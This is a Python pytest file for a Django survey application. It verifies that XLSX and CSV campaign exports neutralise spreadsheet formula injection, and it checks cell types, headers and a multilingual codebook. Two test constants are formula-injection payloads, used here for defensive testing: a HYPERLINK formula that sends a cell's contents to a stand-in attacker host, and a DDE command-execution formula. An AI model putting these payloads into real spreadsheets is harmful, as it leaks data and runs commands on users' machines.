"""Campaign exports are safe to open in a spreadsheet program: no answer becomes a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from mapping.models import Question
from tests.factories import QuestionFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.fixture
def hostile_answers(official, response, version):
    """Two free-text answers that are formulas and a negative number, saved through the API by the official."""
    text = version.questions.get(code="EDU-3")
    balance = QuestionFactory(
        section=text.section, code="EDU-4", order=4, kind=Question.Kind.NUMBER, min_value=-100, max_value=100
    )
    note = QuestionFactory(section=text.section, code="EDU-5", order=5, kind=Question.Kind.TEXT, required=False)
    client = api(official)
    for question, value in [(text, HYPERLINK), (note, DDE), (balance, -5)]:
        reply = client.post(
            f"/api/v1/responses/{response.pk}/answers/",
            {"question": question.pk, "value": value, "revision": 0},
            format="json",
        )
        assert reply.status_code == 200, reply.content
    return response


def download(coordinator, campaign, fmt: str, shape: str):
    reply = api(coordinator).get(f"/api/v1/campaigns/{campaign.pk}/export.{fmt}?shape={shape}")
    assert reply.status_code == 200
    return reply


def xlsx_cells(reply) -> list:
    workbook = load_workbook(io.BytesIO(reply.content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def csv_cells(reply) -> list[str]:
    text = b"".join(reply.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("shape", ["long", "wide"])
def test_xlsx_export_stores_hostile_answers_as_text(coordinator, campaign, hostile_answers, shape):
    cells = xlsx_cells(download(coordinator, campaign, "xlsx", shape))

    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert HYPERLINK in texts
    assert DDE in texts
    assert -5 in [cell.value for cell in cells if cell.data_type == "n"]


@pytest.mark.parametrize("shape", ["long", "wide"])
def test_csv_export_prefixes_hostile_answers(coordinator, campaign, hostile_answers, shape):
    cells = csv_cells(download(coordinator, campaign, "csv", shape))

    assert "'" + HYPERLINK in cells
    assert "'" + DDE in cells
    assert HYPERLINK not in cells
    assert DDE not in cells
    assert "-5" in cells
    assert "'-5" not in cells
    assert [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")] == []


@pytest.fixture
def answered(official, response, version):
    client = api(official)
    for code, value, extra in [
        ("DATA-1", "4", {"confidence": "high", "evidence_source": "document", "evidence_year": 2024}),
        ("DATA-2", "yes", {}),
        ("DATA-3", "120", {"evidence_note": "=1+1"}),
        ("EDU-2", ["md", "nurse"], {}),
    ]:
        question = version.questions.get(code=code)
        reply = client.post(
            f"/api/v1/responses/{response.pk}/answers/",
            {"question": question.pk, "value": value, "revision": 0, **extra},
            format="json",
        )
        assert reply.status_code == 200, reply.content
    return response


def test_xlsx_wide_export_has_typed_cells_short_headers_frozen_header_and_filter(coordinator, campaign, answered):
    workbook = load_workbook(io.BytesIO(download(coordinator, campaign, "xlsx", "wide").content))

    sheet = workbook["Regions"]
    header = [cell.value for cell in sheet[1]]
    assert header == [
        "region_code",
        "region_name",
        "country",
        "status",
        "progress_percent",
        "submitted_at (Europe/Brussels)",
        "DATA-1",
        "DATA-2",
        "DATA-3",
        "EDU-1",
        "EDU-2",
        "EDU-3",
    ]
    row = dict(zip(header, sheet[2], strict=True))
    assert (row["DATA-1"].value, row["DATA-1"].data_type) == (4, "n")
    assert (row["DATA-3"].value, row["DATA-3"].data_type) == (120, "n")
    assert (row["progress_percent"].data_type, row["DATA-2"].value, row["EDU-2"].value) == ("n", "yes", "md;nurse")
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:L2"
    assert [c.coordinate for s in workbook.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"] == []


def test_xlsx_wide_export_with_evidence_columns(coordinator, campaign, answered):
    reply = api(coordinator).get(f"/api/v1/campaigns/{campaign.pk}/export.xlsx?shape=wide&evidence=1")
    sheet = load_workbook(io.BytesIO(reply.content))["Regions"]

    header = [cell.value for cell in sheet[1]]
    assert header[6:11] == ["DATA-1", "DATA-1.source", "DATA-1.year", "DATA-1.confidence", "DATA-1.note"]
    row = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert (row["DATA-1.source"], row["DATA-1.year"], row["DATA-1.confidence"]) == ("document", 2024, "high")
    # Typed by an official, so it stays text and never becomes a formula.
    assert row["DATA-3.note"] == "=1+1"
    assert sheet["A1"].data_type == "s"


def test_xlsx_long_export_dates_are_local_date_cells(coordinator, campaign, answered):
    import datetime
    import zoneinfo

    sheet = load_workbook(io.BytesIO(download(coordinator, campaign, "xlsx", "long").content))["Answers"]

    header = [cell.value for cell in sheet[1]]
    column = header.index("updated_at (Europe/Brussels)")
    stamp = sheet.cell(row=2, column=column + 1).value
    assert isinstance(stamp, datetime.datetime)
    stored = answered.answers.get(question__code="DATA-1").updated_at
    local = stored.astimezone(zoneinfo.ZoneInfo("Europe/Brussels")).replace(tzinfo=None, microsecond=0)
    assert abs((stamp - local).total_seconds()) < 60 * 60 * 24
    assert header.index("score") > 0 and sheet.cell(row=2, column=header.index("score") + 1).data_type == "n"


def test_codebook_sheet_and_csv_explain_every_question(coordinator, campaign, answered, version):
    sheet = load_workbook(io.BytesIO(download(coordinator, campaign, "xlsx", "wide").content))["Codebook"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header = rows[0]
    languages = ["en", "fr", "de", "es", "it", "nl"]  # a text and an options column for each UI language
    assert header == [
        "code",
        "section",
        *[f"text_{lang}" for lang in languages],
        "type",
        "required",
        *[f"options_{lang}" for lang in languages],
        "option_scores",
        "theme",
        "weight",
        "minimum",
        "maximum",
        "condition",
    ]
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_code["DATA-1"]["text_fr"] == "Les dossiers de santé sont-ils interopérables ?"
    assert by_code["DATA-1"]["options_en"].startswith("1=Not at all; 2=")
    assert by_code["DATA-3"]["condition"] == "DATA-2 = yes"
    assert by_code["EDU-1"]["options_en"] == "none=None; some=Some; all=All"
    assert by_code["EDU-1"]["option_scores"] == "none=0; some=50; all=100"
    assert (by_code["DATA-1"]["theme"], by_code["DATA-1"]["weight"]) == ("DATA", 2)

    text = b"".join(download(coordinator, campaign, "csv", "codebook").streaming_content).decode("utf-8-sig")
    csv_rows = list(csv.reader(io.StringIO(text)))
    assert csv_rows[0] == header
    assert [row[0] for row in csv_rows[1:]] == ["DATA-1", "DATA-2", "DATA-3", "EDU-1", "EDU-2", "EDU-3"]
